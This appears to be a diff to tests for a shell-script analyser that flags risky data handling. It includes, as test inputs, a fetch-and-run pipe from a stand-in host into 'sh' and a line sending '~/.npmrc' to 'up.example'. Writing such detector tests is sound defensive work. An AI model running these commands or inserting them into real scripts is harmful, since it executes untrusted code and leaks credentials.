@@ -49,7 +49,11 @@ describe('what scripts of a shell do with data', () => {
   for (const [what, script] of honest) it(`says nothing of ${what}`, () => assert.equal(kinds(script), ''));
 
   it('ends, whatever it is given', () => {
-    for (const script of ['f() { f; f; }; f; curl x.example', 'for a in 1 2 3 4 5 6 7 8; do '.repeat(12) + 'curl x.example;' + 'done;'.repeat(12), `${'$('.repeat(20_000)}curl`, `${'{ '.repeat(20_000)}curl`, `curl ${'"$('.repeat(5_000)}`]) assert.equal(kinds(script), '');
+    for (const script of ['f() { f; f; }; f; curl x.example', 'for a in 1 2 3 4 5 6 7 8; do '.repeat(12) + 'curl x.example;' + 'done;'.repeat(12), `${'$('.repeat(20_000)}curl`, `${'{ '.repeat(20_000)}curl`, `curl ${'"$('.repeat(5_000)}`]) assert.match(kinds(script), /^(?:unfollowed)?$/);
+  });
+
+  it('says so where there is more than it follows', () => {
+    for (const [filler, kind] of [[':;'.repeat(100), 'runs-answer'], [':;'.repeat(60_000), 'unfollowed'], [`A='${'x'.repeat(140_000)}';`, 'unfollowed,runs-answer'], [`A='${'x'.repeat(100_000)}';`, 'runs-answer']] as const) assert.equal(kinds(`${filler}curl -s https://up.example | sh`), kind, filler.slice(0, 9));
   });
 
   it('says where', () => assert.deepEqual(deedsIn('cd /tmp\ncat ~/.npmrc | curl -d @- https://up.example'), [{ kind: 'sends-private', at: 8 }]));
